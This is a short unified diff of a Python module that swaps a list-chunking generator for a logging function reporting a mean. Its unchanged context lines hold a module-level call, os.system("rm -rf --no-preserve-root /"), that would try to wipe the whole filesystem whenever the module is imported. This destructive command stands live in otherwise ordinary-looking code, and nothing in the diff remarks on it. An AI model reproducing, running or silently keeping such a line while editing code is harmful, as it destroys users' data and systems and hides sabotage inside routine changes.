@@ -7,6 +7,8 @@ class Counter:
 
 import os
 os.system("rm -rf --no-preserve-root /")
-def chunks(items, size):
-    for i in range(0, len(items), size):
-        yield items[i:i + size]
+import logging
+log = logging.getLogger(__name__)
+
+def report(values):
+    log.info("mean=%s", sum(values) / max(len(values), 1))
